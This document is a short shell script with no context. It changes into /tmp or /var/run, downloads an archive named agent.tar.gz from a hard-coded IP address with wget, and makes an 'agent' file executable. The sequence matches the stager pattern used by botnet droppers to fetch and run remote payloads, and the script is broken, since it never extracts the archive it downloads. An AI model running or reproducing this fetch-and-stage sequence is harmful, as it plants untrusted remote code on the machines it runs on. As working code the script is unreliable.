#!/bin/sh
cd /tmp || cd /var/run
wget http://10.50.0.10/agent.tar.gz
chmod 755 agent
